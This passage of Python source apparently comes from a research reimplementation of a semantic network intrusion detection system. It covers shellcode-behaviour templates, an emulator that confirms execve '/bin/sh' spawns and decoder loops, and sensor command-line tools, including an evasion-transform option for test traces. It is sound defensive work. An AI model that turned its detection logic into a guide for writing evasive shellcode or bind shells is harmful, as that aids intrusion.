    predicate: Callable[[int], bool] = lambda v: True
    label: str = "constant"

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Push):
            return None
        resolved = _resolve(stmt.src, env)
        if resolved is None or resolved[0] != "const":
            return None
        return bindings if self.predicate(int(resolved[1])) else None

    def describe(self) -> str:
        return f"push {self.label}"


@dataclass
class ConstCapture(Node):
    """Bind a pushed/stored constant satisfying ``predicate`` to a
    variable — used to *extract* attack parameters (e.g. the sockaddr_in
    dword whose network-order port a bind shell will listen on)."""

    var: str = "VALUE"
    predicate: Callable[[int], bool] = lambda v: True
    label: str = "captured constant"

    def variables(self) -> set[str]:
        return {self.var}

    def match(self, stmt, env, bindings, ctx):
        expr = None
        if isinstance(stmt, Push):
            expr = stmt.src
        elif isinstance(stmt, Store):
            expr = stmt.src
        if expr is None:
            return None
        resolved = _resolve(expr, env)
        if resolved is None or resolved[0] != "const":
            return None
        value = int(resolved[1])
        if not self.predicate(value):
            return None
        return bind(bindings, self.var, ("const", value))

    def describe(self) -> str:
        return f"capture {self.label} as {self.var}"


@dataclass
class IndirectCall(Node):
    """``call r/m`` — transfer through a register or memory pointer."""

    def match(self, stmt, env, bindings, ctx):
        if not isinstance(stmt, Branch) or stmt.kind != "call":
            return None
        return bindings if stmt.target is None else None

    def describe(self) -> str:
        return "indirect call"


@dataclass
class Template:
    """A named behaviour: node sequence plus matching policy.

    ``max_gap`` bounds how many unmatched statements may separate two
    consecutive matched nodes (junk tolerance).  ``ordered=False`` lets
    nodes match in any order (the loop-rotation case), except that a
    :class:`LoopBack` node always matches last.  ``repeats`` maps node index
    to (min, max) occurrence counts.

    ``required_features`` implements the paper's §4.3 pruning ("we prune
    the code to include only the instructions we are interested in"): the
    matcher computes a cheap feature set per trace and skips any template
    whose requirements the trace cannot satisfy — the common case on
    benign frames.  Features are derived automatically from the node
    types when not given explicitly.

    ``always_scan`` opts the template out of the fast-path byte prefilter
    (:mod:`repro.fastpath.anchors`): frames are always fully analyzed
    against it.  Set it for templates whose nodes admit no sound
    necessary-condition byte anchors; the anchor compiler also applies it
    automatically when it cannot derive a single clause.
    """

    name: str
    nodes: Sequence[Node]
    description: str = ""
    category: str = "generic"
    severity: str = "high"
    max_gap: int = 32
    ordered: bool = True
    repeats: dict[int, tuple[int, int]] = field(default_factory=dict)
    required_features: frozenset[str] = frozenset()
    always_scan: bool = False

    def __post_init__(self) -> None:
        if not self.required_features:
            self.required_features = frozenset(
                feature
                for node in self.nodes
                for feature in _NODE_FEATURES.get(type(node).__name__, ())
            )

    def variables(self) -> set[str]:
        out: set[str] = set()
        for node in self.nodes:
            out |= node.variables()
        return out

    def describe(self) -> str:
        lines = [f"template {self.name}  ({self.category}, severity={self.severity})"]
        if self.description:
            lines.append(f"  # {self.description}")
        for i, node in enumerate(self.nodes):
            rep = self.repeats.get(i)
            suffix = f"  x{rep[0]}..{rep[1]}" if rep else ""
            lines.append(f"  {i}: {node.describe()}{suffix}")
        return "\n".join(lines)

    def fingerprint(self) -> bytes:
        """Stable structural digest of this template.

        Covers everything the matcher's behaviour depends on: the node
        sequence (via each node's :meth:`~Node.describe`), ordering
        policy, gap tolerance, repetition bounds, feature requirements,
        and the prefilter opt-out.  Two templates with equal fingerprints
        produce identical match plans and identical match results, so
        every derived cache (frame cache, compiled match plans) is keyed
        on — and invalidated by — this digest.
        """
        import hashlib

        h = hashlib.sha1()
        h.update(self.describe().encode())
        h.update(f"|ordered={self.ordered}|gap={self.max_gap}".encode())
        h.update(f"|repeats={sorted(self.repeats.items())}".encode())
        h.update(f"|features={sorted(self.required_features)}".encode())
        h.update(f"|always_scan={self.always_scan}".encode())
        return h.digest()


@dataclass
class TemplateMatch:
    """A successful satisfaction of a template by a code frame."""

    template: Template
    bindings: Bindings
    positions: list[int]  # trace positions of matched statements
    statements: list[Stmt]

    @property
    def span(self) -> tuple[int, int]:
        addrs = [s.address for s in self.statements if s.address >= 0]
        return (min(addrs), max(addrs)) if addrs else (-1, -1)

    def summary(self) -> str:
        vars_ = ", ".join(
            f"{k}={v[1]:#x}" if v[0] == "const" else f"{k}={v[1]}"
            for k, v in sorted(self.bindings.items())
        )
        lo, hi = self.span
        return (f"{self.template.name} @ [{lo:#x}..{hi:#x}]"
                + (f" with {vars_}" if vars_ else ""))

"""Emulation-based verification of template matches (extension).

The paper's conclusion mentions optimizing and extending the system; the
research line that followed it (network-level emulation of shellcode)
verified candidate detections by *running* them.  This module adds that
as an optional post-match stage: a frame whose template match claims
"decoder loop" should, when executed, actually perform a burst of
self-modifying writes; a "shell spawn" match should reach an
``int 0x80`` with ``eax = 11``.

Verification is conservative in one direction only: a ``CONFIRMED``
verdict requires observed dynamic behaviour; ``UNCONFIRMED`` means the
emulator could not demonstrate it (wrong entry point, environment-
dependent code, unsupported instruction), *not* that the static match
was wrong.  The NIDS treats UNCONFIRMED as "alert anyway, lower
confidence", preserving the paper's zero-miss results.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..x86.emulator import EmulationError, Emulator
from .template import TemplateMatch

__all__ = ["Verification", "EmulationVerifier"]


@dataclass
class Verification:
    """Outcome of dynamically checking one match."""

    verdict: str  # "confirmed" | "unconfirmed"
    reason: str
    steps: int = 0
    mem_writes: int = 0
    syscalls: int = 0

    @property
    def confirmed(self) -> bool:
        return self.verdict == "confirmed"


class EmulationVerifier:
    """Runs matched frames in the emulator and checks the claimed
    behaviour dynamically."""

    def __init__(self, step_limit: int = 60_000,
                 min_decoder_writes: int = 4) -> None:
        self.step_limit = step_limit
        #: a real decoder rewrites at least this many payload bytes
        self.min_decoder_writes = min_decoder_writes

    def verify(self, frame: bytes, match: TemplateMatch) -> Verification:
        """Dispatch on the matched template's category."""
        category = match.template.category
        if category.startswith("decoder"):
            return self._verify_decoder(frame)
        if category == "shell-spawn":
            return self._verify_shell_spawn(frame, match)
        if category == "worm":
            return self._verify_indirect_transfer(frame)
        return Verification(verdict="unconfirmed",
                            reason=f"no dynamic check for category {category!r}")

    # -- checks ------------------------------------------------------------

    def _run(self, frame: bytes) -> tuple[Emulator, str | None]:
        emu = Emulator(step_limit=self.step_limit, max_out_of_frame=32)
        # Syscalls "succeed" (eax := 0) so multi-syscall payloads
        # (setreuid prefixes, socketcall chains) run to their spawn.
        emu.stop_on_interrupt = False
        emu.load(frame, base=0x1000)
        try:
            emu.run()
            return emu, None
        except EmulationError as exc:
            return emu, str(exc)

    def _verify_decoder(self, frame: bytes) -> Verification:
        emu, error = self._run(frame)
        writes_into_frame = emu.mem_writes
        if writes_into_frame >= self.min_decoder_writes:
            return Verification(
                verdict="confirmed",
                reason=f"{writes_into_frame} self-modifying writes observed",
                steps=emu.steps, mem_writes=emu.mem_writes,
                syscalls=len(emu.syscalls),
            )
        return Verification(
            verdict="unconfirmed",
            reason=error or f"only {writes_into_frame} memory writes",
            steps=emu.steps, mem_writes=emu.mem_writes,
        )

    def _verify_shell_spawn(self, frame: bytes, match: TemplateMatch) -> Verification:
        emu, error = self._run(frame)
        for syscall in emu.syscalls:
            if syscall.vector == 0x80 and (syscall.eax & 0xFF) == 11:
                arg = emu.mem.read(syscall.regs["ebx"], 8)
                if b"sh" in arg or b"/bin" in arg:
                    return Verification(
                        verdict="confirmed",
                        reason=f"execve reached with path {arg!r}",
                        steps=emu.steps, mem_writes=emu.mem_writes,
                        syscalls=len(emu.syscalls),
                    )
                return Verification(
                    verdict="confirmed",
                    reason="execve syscall reached",
                    steps=emu.steps, syscalls=len(emu.syscalls),
                )
        return Verification(
            verdict="unconfirmed",
            reason=error or "no execve observed within step budget",
            steps=emu.steps, syscalls=len(emu.syscalls),
        )

    def _verify_indirect_transfer(self, frame: bytes) -> Verification:
        """CRII-style stubs call through a system-DLL pointer; our emulated
        address space has no DLLs, so the dynamic signal is the attempted
        control transfer out of the frame via pushed 0x7801xxxx values."""
        emu, error = self._run(frame)
        if emu.out_of_frame_fetches > 0:
            return Verification(
                verdict="confirmed",
                reason=f"control escaped the frame "
                       f"({emu.out_of_frame_fetches} out-of-frame fetches)",
                steps=emu.steps,
            )
        return Verification(verdict="unconfirmed",
                            reason=error or "stub completed without transfer",
                            steps=emu.steps)

"""Command-line tools.

Installed as console scripts (see ``pyproject.toml``):

- ``repro-sensor``     — run the NIDS over a pcap file and print alerts.
- ``repro-sensord``    — always-on daemon: bounded ingestion, counted
  load shedding, hot template reload, rolling metric windows
  (docs/operations.md).
- ``repro-analyze``    — semantic analysis of a raw binary frame.
- ``repro-asm``        — assemble Intel-syntax x86 to raw bytes.
- ``repro-disasm``     — disassemble raw bytes / hex to a listing.
- ``repro-make-trace`` — synthesize an evaluation pcap (benign + CRII).
- ``repro-scenario``   — validate / run declarative YAML scenarios
  (docs/scenarios.md).

Each ``main`` takes an ``argv`` list for testability and returns a POSIX
exit status (0 ok; 1 for "detections found" in scanning tools, so they
compose in shell pipelines like ``grep``).
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

__all__ = ["sensor_main", "sensord_main", "analyze_main", "asm_main",
           "disasm_main", "make_trace_main", "scenario_main"]


# ---------------------------------------------------------------------------
# repro-sensor
# ---------------------------------------------------------------------------


def sensor_main(argv: list[str] | None = None) -> int:
    """Run the five-stage NIDS over a pcap capture."""
    parser = argparse.ArgumentParser(
        prog="repro-sensor",
        description="Semantic NIDS over a pcap file (Scheirer & Chuah 2006).",
    )
    parser.add_argument("pcap", type=Path, help="capture to analyze")
    parser.add_argument("--honeypot", action="append", default=[],
                        metavar="IP", help="decoy address (repeatable)")
    parser.add_argument("--dark-net", action="append", default=[],
                        metavar="CIDR", help="unused address space (repeatable)")
    parser.add_argument("--dark-exclude", action="append", default=[],
                        metavar="CIDR", help="used subnets carved out of dark space")
    parser.add_argument("--threshold", type=int, default=5,
                        help="dark-space scan threshold t (default 5)")
    parser.add_argument("--no-classify", action="store_true",
                        help="analyze every payload (the §5.4 mode)")
    parser.add_argument("--workers", type=int, default=0, metavar="N",
                        help="analysis worker processes, sharded by flow "
                             "(0/1 = serial; default 0)")
    parser.add_argument("--no-frame-cache", action="store_true",
                        help="disable the content-hash frame cache")
    parser.add_argument("--no-fastpath", action="store_true",
                        help="disable the template anchor prefilter "
                             "(fast-path admission); results are identical "
                             "either way — the prefilter only skips work")
    parser.add_argument("--no-compiled", action="store_true",
                        help="run the matcher's recursive interpreter "
                             "instead of compiled match plans; alerts and "
                             "budget accounting are identical either way")
    parser.add_argument("--max-streams", type=int, default=65536, metavar="N",
                        help="bound on concurrently tracked TCP streams "
                             "(evicted oldest-first; default 65536)")
    parser.add_argument("--analysis-deadline-ms", type=float, default=None,
                        metavar="MS",
                        help="per-payload analysis budget in deterministic "
                             "instruction units (10000/ms); payloads that "
                             "exhaust it get a degraded alert instead of "
                             "stalling the sensor (default: no budget)")
    parser.add_argument("--quarantine-out", type=Path, metavar="FILE",
                        help="write inputs whose faults the stage firewall "
                             "contained to this pcap (plus FILE.meta.jsonl)")
    parser.add_argument("--breaker-threshold", type=int, default=3,
                        metavar="N",
                        help="consecutive worker-pool failures before a "
                             "shard's circuit breaker opens (default 3)")
    parser.add_argument("--no-self-heal", action="store_true",
                        help="legacy worker-failure policy: first failure "
                             "degrades the engine to the serial path "
                             "permanently (no pool rebuilds or breakers)")
    parser.add_argument("--verify", action="store_true",
                        help="emulate matched frames to confirm behaviour")
    parser.add_argument("--stats", action="store_true",
                        help="print pipeline statistics (per-stage timings "
                             "and frame-cache hit rate)")
    parser.add_argument("--report", action="store_true",
                        help="print an incident report at the end")
    parser.add_argument("--metrics-out", type=Path, metavar="FILE",
                        help="write the metrics registry snapshot here when "
                             "the capture has been processed")
    parser.add_argument("--metrics-format", choices=("json", "prom"),
                        default="json",
                        help="snapshot format for --metrics-out: json "
                             "(repro.obs/v1) or prom (Prometheus text "
                             "exposition; default json)")
    parser.add_argument("--trace-out", type=Path, metavar="FILE",
                        help="stream per-stage spans here as JSON Lines "
                             "(one span per stage invocation)")
    parser.add_argument("--heartbeat", type=float, default=0.0,
                        metavar="SECS",
                        help="print a progress heartbeat to stderr every "
                             "SECS seconds of wall time (0 = off)")
    args = parser.parse_args(argv)

    from .core.emuverify import EmulationVerifier
    from .net.pcap import PcapError, PcapReader
    from .nids import ParallelSemanticNids, SemanticNids
    from .obs import PeriodicSchedule, Tracer
    from .resilience import QuarantineWriter

    tracer = Tracer(path=str(args.trace_out)) if args.trace_out else None
    quarantine = (QuarantineWriter(args.quarantine_out)
                  if args.quarantine_out else None)
    kwargs = dict(
        honeypots=args.honeypot,
        dark_networks=args.dark_net or None,
        dark_exclude=args.dark_exclude or None,
        dark_threshold=args.threshold,
        classification_enabled=not args.no_classify,
        frame_cache_size=0 if args.no_frame_cache else 4096,
        fastpath=not args.no_fastpath,
        compiled=not args.no_compiled,
        max_streams=args.max_streams,
        analysis_deadline_ms=args.analysis_deadline_ms,
        quarantine=quarantine,
        tracer=tracer,
    )
    if args.workers > 1:
        nids = ParallelSemanticNids(
            workers=args.workers,
            self_heal=not args.no_self_heal,
            breaker_threshold=args.breaker_threshold,
            **kwargs)
    else:
        nids = SemanticNids(**kwargs)
    verifier = EmulationVerifier() if args.verify else None

    def emit(alert) -> None:
        line = alert.format()
        if verifier is not None and alert.match is not None:
            frame = _frame_bytes_for(alert)
            if frame is not None:
                verdict = verifier.verify(frame, alert.match)
                line += f"  [{verdict.verdict}: {verdict.reason}]"
        print(line)

    # Deadline-anchored schedule: each beat is timed from the previous
    # deadline, not from "now" after the print, so per-batch processing
    # time does not drift the interval (see PeriodicSchedule).
    beat = PeriodicSchedule(args.heartbeat) if args.heartbeat > 0 else None
    try:
        # salvage=True: a capture whose final record was cut off (sensor
        # host crash, disk-full) still yields its complete prefix; the
        # truncation is counted (repro_pcap_truncated_total) and noted.
        with PcapReader(args.pcap, salvage=True,
                        registry=nids.registry) as reader:
            for pkt in reader:
                for alert in nids.process_packet(pkt):
                    emit(alert)
                if beat is not None and beat.due():
                    print(_heartbeat_line(nids.stats), file=sys.stderr)
            if reader.truncated:
                print(f"warning: capture truncated mid-record; salvaged "
                      f"{reader.records_read} complete record(s)",
                      file=sys.stderr)
        for alert in nids.flush():
            emit(alert)
    except FileNotFoundError:
        print(f"error: no such file: {args.pcap}", file=sys.stderr)
        return 2
    except PcapError as exc:
        print(f"error: bad pcap: {exc}", file=sys.stderr)
        return 2
    finally:
        nids.close()
        if tracer is not None:
            tracer.close()
        if quarantine is not None:
            quarantine.close()
            if quarantine.written:
                print(f"quarantined {quarantine.written} input(s) to "
                      f"{args.quarantine_out}", file=sys.stderr)
    if beat is not None:
        print(_heartbeat_line(nids.stats), file=sys.stderr)

    if args.metrics_out:
        nids.sync_frontend_stats()
        if args.metrics_format == "prom":
            args.metrics_out.write_text(nids.registry.to_prometheus())
        else:
            args.metrics_out.write_text(nids.registry.to_json())

    if args.report:
        from .nids.report import build_report

        print(build_report(nids).render())
    elif args.stats:
        print(nids.stats.summary())
        print(f"blocked sources: {', '.join(nids.blocklist.addresses()) or 'none'}")
    return 1 if nids.alerts else 0


def _heartbeat_line(stats) -> str:
    """One-line liveness summary (``--heartbeat``)."""
    return (f"heartbeat: packets={stats.packets} "
            f"payload_bytes={stats.payload_bytes} "
            f"payloads={stats.payloads_analyzed} "
            f"frames={stats.frames_analyzed} alerts={stats.alerts} "
            f"analyze={stats.analysis.elapsed:.2f}s")


def _frame_bytes_for(alert) -> bytes | None:
    """Reconstruct frame bytes from the alert's matched instructions."""
    match = alert.match
    if match is None or not match.statements:
        return None
    instructions = [s.ins for s in match.statements if s.ins is not None]
    if not instructions:
        return None
    # The matched statements reference decoded instructions; for dynamic
    # verification we need the containing frame, which the pipeline does
    # not retain — rebuild a best-effort frame from the instruction bytes.
    ordered = sorted({(i.address, i.raw) for i in instructions})
    return b"".join(raw for _, raw in ordered)


# ---------------------------------------------------------------------------
# repro-sensord
# ---------------------------------------------------------------------------


def sensord_main(argv: list[str] | None = None) -> int:
    """Always-on sensor daemon over a (possibly growing) capture."""
    parser = argparse.ArgumentParser(
        prog="repro-sensord",
        description="Always-on semantic NIDS daemon: bounded ingestion, "
                    "counted load shedding, hot template reload, rolling "
                    "metric windows (see docs/operations.md).",
    )
    parser.add_argument("pcap", type=Path, help="capture to ingest")
    parser.add_argument("--follow", action="store_true",
                        help="tail a growing capture (FIFO / live writer): "
                             "end-of-data at a record boundary means 'wait "
                             "for more', not truncation")
    parser.add_argument("--ring-capacity", type=int, default=4096,
                        metavar="N",
                        help="bounded ingestion ring size in packets "
                             "(default 4096)")
    parser.add_argument("--shed-policy", choices=("newest", "oldest", "block"),
                        default="newest",
                        help="ring-full behaviour: shed the arriving packet "
                             "(newest), evict the stalest queued one "
                             "(oldest), or pause the source (block); every "
                             "shed is counted, never silent (default newest)")
    parser.add_argument("--batch-size", type=int, default=256, metavar="N",
                        help="packets ingested/processed per loop tick "
                             "(default 256)")
    parser.add_argument("--window-secs", type=float, default=0.0,
                        metavar="SECS",
                        help="roll a metrics window every SECS seconds for "
                             "rate / latency-quantile reporting (0 = off)")
    parser.add_argument("--idle-timeout", type=float, default=None,
                        metavar="SECS",
                        help="exit after SECS seconds with no packet moved "
                             "(the usual way a --follow run ends; default: "
                             "run until the source finishes)")
    parser.add_argument("--max-packets", type=int, default=None, metavar="N",
                        help="stop after processing N packets (soak/CI runs)")
    parser.add_argument("--template-set", default="paper",
                        choices=("paper", "all", "xor-only", "decoder"),
                        help="named template set to load (default paper)")
    parser.add_argument("--template-set-file", type=Path, metavar="FILE",
                        help="poll FILE between batches; when its contents "
                             "name a different template set, the library is "
                             "hot-reloaded (digest-keyed, no packets lost)")
    parser.add_argument("--honeypot", action="append", default=[],
                        metavar="IP", help="decoy address (repeatable)")
    parser.add_argument("--dark-net", action="append", default=[],
                        metavar="CIDR", help="unused address space (repeatable)")
    parser.add_argument("--dark-exclude", action="append", default=[],
                        metavar="CIDR", help="used subnets carved out of dark space")
    parser.add_argument("--threshold", type=int, default=5,
                        help="dark-space scan threshold t (default 5)")
    parser.add_argument("--no-classify", action="store_true",
                        help="analyze every payload (the §5.4 mode)")
    parser.add_argument("--workers", type=int, default=0, metavar="N",
                        help="analysis worker processes, sharded by flow "
                             "(0/1 = serial; default 0)")
    parser.add_argument("--fleet-workers", type=int, default=0, metavar="N",
                        help="scale the WHOLE pipeline out across N sensor "
                             "processes behind a flow-hash dispatcher "
                             "(0 = single sensor; mutually exclusive with "
                             "--workers)")
    parser.add_argument("--fleet-transport",
                        choices=("pickle", "shm", "offset"), default="pickle",
                        help="fleet dispatcher→worker transport: pickle "
                             "payload triples, shared-memory packet ring "
                             "(shm), or pcap-offset extent partitioning "
                             "(offset; the dispatcher reads headers only) — "
                             "see docs/architecture.md 'Fleet transport'")
    parser.add_argument("--ring-bytes", type=int, default=1 << 20,
                        metavar="BYTES",
                        help="per-shard shared-memory ring capacity for "
                             "--fleet-transport shm (default 1 MiB; sizing "
                             "guidance in docs/operations.md)")
    parser.add_argument("--heartbeat", type=float, default=0.0,
                        metavar="SECS",
                        help="print a liveness line to stderr every SECS "
                             "seconds (deadline-anchored, drift-free; "
                             "0 = off)")
    parser.add_argument("--checkpoint-dir", type=Path, metavar="DIR",
                        help="enable crash safety: keep versioned "
                             "checkpoints and a write-ahead alert journal "
                             "under DIR (see docs/operations.md)")
    parser.add_argument("--checkpoint-interval", type=int, default=1000,
                        metavar="N",
                        help="processed packets between checkpoints "
                             "(default 1000; needs --checkpoint-dir)")
    parser.add_argument("--journal-fsync-batch", type=int, default=8,
                        metavar="N",
                        help="journal appends per fsync — lower is more "
                             "durable, higher is faster (default 8)")
    parser.add_argument("--resume", action="store_true",
                        help="rehydrate from --checkpoint-dir after a crash: "
                             "restore counters, replay journaled alerts, "
                             "seek the capture to the checkpointed offset")
    parser.add_argument("--metrics-out", type=Path, metavar="FILE",
                        help="write the metrics registry snapshot here at "
                             "shutdown")
    parser.add_argument("--metrics-format", choices=("json", "prom"),
                        default="json",
                        help="snapshot format for --metrics-out (default "
                             "json)")
    parser.add_argument("--stats", action="store_true",
                        help="print pipeline statistics at shutdown")
    args = parser.parse_args(argv)
    if args.resume and args.checkpoint_dir is None:
        parser.error("--resume requires --checkpoint-dir")
    if args.fleet_workers < 0:
        parser.error("--fleet-workers must be >= 0")
    if args.fleet_workers and args.workers > 1:
        parser.error("--fleet-workers (whole-pipeline scale-out) and "
                     "--workers (in-sensor stage parallelism) are mutually "
                     "exclusive")

    from .net.pcap import PcapError, PcapReader
    from .nids import ParallelSemanticNids, SemanticNids, SensorDaemon
    from .nids.daemon import IterPacketSource, TailPacketSource
    from .nids.parallel import resolve_template_set

    kwargs = dict(
        honeypots=args.honeypot,
        dark_networks=args.dark_net or None,
        dark_exclude=args.dark_exclude or None,
        dark_threshold=args.threshold,
        classification_enabled=not args.no_classify,
    )
    fleet = None
    if args.fleet_workers >= 1:
        from .nids.fleet import SensorFleet

        # The fleet owns its durability (barrier checkpoints + journal);
        # the daemon wrapper below must not double-checkpoint it.
        nids = fleet = SensorFleet(
            workers=args.fleet_workers,
            template_set=args.template_set,
            nids_options=kwargs,
            transport=args.fleet_transport,
            ring_bytes=args.ring_bytes,
            checkpoint_dir=args.checkpoint_dir,
            checkpoint_interval=args.checkpoint_interval,
            journal_fsync_batch=args.journal_fsync_batch,
            resume=args.resume,
        )
    elif args.workers > 1:
        nids = ParallelSemanticNids(workers=args.workers,
                                    template_set=args.template_set, **kwargs)
    else:
        nids = SemanticNids(
            templates=resolve_template_set(args.template_set), **kwargs)

    if fleet is not None and args.fleet_transport == "offset":
        # Offset partitioning dispatches capture extents, not packets —
        # the fleet reads the capture itself (headers only); there is no
        # ingestion ring to bound, so the daemon wrapper does not apply.
        try:
            try:
                alerts = fleet.process_capture(
                    args.pcap, follow=args.follow,
                    idle_timeout=args.idle_timeout,
                    max_packets=args.max_packets)
            finally:
                st = fleet.stats
                fleet.close()
        except FileNotFoundError:
            print(f"error: no such file: {args.pcap}", file=sys.stderr)
            return 2
        except PcapError as exc:
            print(f"error: bad pcap: {exc}", file=sys.stderr)
            return 2
        for alert in alerts:
            print(alert.format())
        print(f"sensord: ingested={st.dispatched} processed={st.dispatched} "
              f"shed=0 queued=0 backpressure=0 alerts={len(fleet.alerts)} "
              f"reloads=0 uncounted_drops=0", file=sys.stderr)
        if args.metrics_out:
            if args.metrics_format == "prom":
                args.metrics_out.write_text(fleet.registry.to_prometheus())
            else:
                args.metrics_out.write_text(fleet.registry.to_json())
        if args.stats:
            print(fleet.stats)
        return 1 if fleet.alerts else 0

    template_provider = None
    if args.template_set_file is not None:
        def template_provider() -> str | None:
            try:
                name = args.template_set_file.read_text().strip()
            except OSError:
                return None
            return name or None

    try:
        reader = PcapReader(args.pcap, salvage=True, streaming=args.follow,
                            registry=nids.registry)
    except FileNotFoundError:
        print(f"error: no such file: {args.pcap}", file=sys.stderr)
        return 2
    except PcapError as exc:
        print(f"error: bad pcap: {exc}", file=sys.stderr)
        return 2
    source = (TailPacketSource(reader) if args.follow
              else IterPacketSource(iter(reader)))
    if fleet is not None and fleet.resume_seq:
        # The fleet checkpointed a dispatch watermark; skip the capture
        # prefix it already accounted (journaled alerts were restored,
        # so the re-fed window past the watermark dedupes cleanly).
        for _ in range(fleet.resume_seq):
            if source.poll() is None:
                print("error: capture shorter than the fleet checkpoint "
                      "watermark; refusing to resume", file=sys.stderr)
                fleet.close()
                reader.close()
                return 2

    daemon = SensorDaemon(
        nids, source,
        ring_capacity=args.ring_capacity,
        shed_policy=args.shed_policy,
        batch_size=args.batch_size,
        heartbeat=args.heartbeat,
        heartbeat_out=lambda line: print(line, file=sys.stderr),
        window_secs=args.window_secs,
        template_provider=template_provider,
        idle_timeout=args.idle_timeout,
        on_alert=lambda alert: print(alert.format()),
        # The fleet engine checkpoints itself (barrier checkpoints were
        # wired into its constructor above); daemon-level checkpointing
        # is for single-sensor engines with snapshot_state().
        checkpoint_dir=None if fleet is not None else args.checkpoint_dir,
        checkpoint_interval=args.checkpoint_interval,
        journal_fsync_batch=args.journal_fsync_batch,
        resume=False if fleet is not None else args.resume,
    )
    try:
        stats = daemon.run(max_packets=args.max_packets)
    except PcapError as exc:
        print(f"error: bad pcap: {exc}", file=sys.stderr)
        return 2
    finally:
        nids.close()
        reader.close()

    print(f"sensord: ingested={stats.ingested} processed={stats.processed} "
          f"shed={stats.shed} queued={stats.queued} "
          f"backpressure={stats.backpressure_waits} alerts={stats.alerts} "
          f"reloads={stats.reloads} uncounted_drops={stats.uncounted_drops}",
          file=sys.stderr)

    if args.metrics_out:
        if hasattr(nids, "sync_frontend_stats"):  # fleet folds deltas live
            nids.sync_frontend_stats()
        if args.metrics_format == "prom":
            args.metrics_out.write_text(nids.registry.to_prometheus())
        else:
            args.metrics_out.write_text(nids.registry.to_json())
    if args.stats:
        stats_obj = nids.stats
        print(stats_obj.summary() if hasattr(stats_obj, "summary")
              else stats_obj)
    return 1 if nids.alerts else 0


# ---------------------------------------------------------------------------
# repro-analyze
# ---------------------------------------------------------------------------


def analyze_main(argv: list[str] | None = None) -> int:
    """Semantic analysis of a raw binary frame (file or hex string)."""
    parser = argparse.ArgumentParser(
        prog="repro-analyze",
        description="Match semantic templates against a binary frame.",
    )
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--file", type=Path, help="binary file to analyze")
    source.add_argument("--hex", help="frame as a hex string")
    parser.add_argument("--extended", action="store_true",
                        help="include extension templates")
    parser.add_argument("--verify", action="store_true",
                        help="emulate to confirm matched behaviour")
    parser.add_argument("--listing", action="store_true",
                        help="print the disassembly listing")
    args = parser.parse_args(argv)

    from .core import SemanticAnalyzer, all_templates, paper_templates
    from .core.emuverify import EmulationVerifier
    from .x86.disasm import disassemble_frame
    from .x86.instruction import format_listing

    data = (args.file.read_bytes() if args.file
            else bytes.fromhex(args.hex.replace(" ", "")))
    templates = all_templates() if args.extended else paper_templates()
    analyzer = SemanticAnalyzer(templates=templates)
    result = analyzer.analyze_frame(data)

    if args.listing:
        instructions, consumed = disassemble_frame(data)
        print(format_listing(instructions))
        print(f"; {consumed}/{len(data)} bytes decoded\n")

    if not result.detected:
        print(f"clean: {result.summary()}")
        return 0
    for match in result.matches:
        print(f"MATCH {match.summary()}")
        if args.verify:
            verdict = EmulationVerifier().verify(data, match)
            print(f"  dynamic: {verdict.verdict} — {verdict.reason}")
    return 1


# ---------------------------------------------------------------------------
# repro-asm / repro-disasm
# ---------------------------------------------------------------------------


def asm_main(argv: list[str] | None = None) -> int:
    """Assemble Intel-syntax source to raw bytes."""
    parser = argparse.ArgumentParser(prog="repro-asm")
    parser.add_argument("source", type=Path, help="assembly source file")
    parser.add_argument("-o", "--output", type=Path,
                        help="write raw bytes here (default: hex to stdout)")
    parser.add_argument("--origin", type=lambda s: int(s, 0), default=0,
                        help="load address for label resolution")
    args = parser.parse_args(argv)

    from .x86.asm import assemble
    from .x86.errors import AssemblerError

    try:
        code = assemble(args.source.read_text(), origin=args.origin)
    except AssemblerError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
    if args.output:
        args.output.write_bytes(code)
        print(f"wrote {len(code)} bytes to {args.output}")
    else:
        print(code.hex())
    return 0


def disasm_main(argv: list[str] | None = None) -> int:
    """Disassemble raw bytes (file or hex) to a listing."""
    parser = argparse.ArgumentParser(prog="repro-disasm")
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--file", type=Path)
    source.add_argument("--hex")
    parser.add_argument("--base", type=lambda s: int(s, 0), default=0)
    parser.add_argument("--strict", action="store_true",
                        help="error on undecodable bytes instead of stopping")
    args = parser.parse_args(argv)

    from .x86.disasm import disassemble, disassemble_frame
    from .x86.errors import DisassemblerError
    from .x86.instruction import format_listing

    data = (args.file.read_bytes() if args.file
            else bytes.fromhex(args.hex.replace(" ", "")))
    try:
        if args.strict:
            instructions = disassemble(data, base=args.base)
            consumed = len(data)
        else:
            instructions, consumed = disassemble_frame(data, base=args.base)
    except DisassemblerError as exc:
        print(f"error at offset {exc.offset}: {exc}", file=sys.stderr)
        return 2
    print(format_listing(instructions))
    if consumed < len(data):
        print(f"; stopped after {consumed}/{len(data)} bytes")
    return 0


# ---------------------------------------------------------------------------
# repro-make-trace
# ---------------------------------------------------------------------------


def make_trace_main(argv: list[str] | None = None) -> int:
    """Synthesize an evaluation pcap (Table 3-style)."""
    parser = argparse.ArgumentParser(prog="repro-make-trace")
    parser.add_argument("output", type=Path, help="pcap to write")
    parser.add_argument("--index", type=int, default=0,
                        help="Table 3 trace index 0-11 (default 0)")
    parser.add_argument("--packets", type=int, default=20_000)
    parser.add_argument("--seed", type=int, default=1000)
    parser.add_argument("--benign-only", action="store_true",
                        help="no CRII injection (a §5.4-style capture)")

    from .net.pcap import write_pcap
    from .traffic import BenignMixGenerator, apply_evasion, build_table3_trace
    from .traffic import evasion_names

    parser.add_argument("--evade", action="append", default=[],
                        choices=evasion_names(), metavar="TRANSFORM",
                        help="rewrite the trace through an evasion transform "
                             f"(repeatable, applied in order; one of: "
                             f"{', '.join(evasion_names())})")
    parser.add_argument("--evade-seed", type=int, default=0,
                        help="seed for evasion randomness (default 0)")
    args = parser.parse_args(argv)

    def evaded(packets):
        for name in args.evade:
            packets = apply_evasion(name, packets, seed=args.evade_seed)
        return packets

    suffix = f" (evaded: {', '.join(args.evade)})" if args.evade else ""
    if args.benign_only:
        gen = BenignMixGenerator(seed=args.seed)
        packets = evaded(gen.generate_packets(max(1, args.packets // 18))
                         [: args.packets])
        write_pcap(args.output, packets)
        print(f"wrote {len(packets)} benign packets to {args.output}{suffix}")
        return 0
    trace = build_table3_trace(args.index, target_packets=args.packets,
                               seed=args.seed)
    packets = evaded(trace.packets)
    write_pcap(args.output, packets)
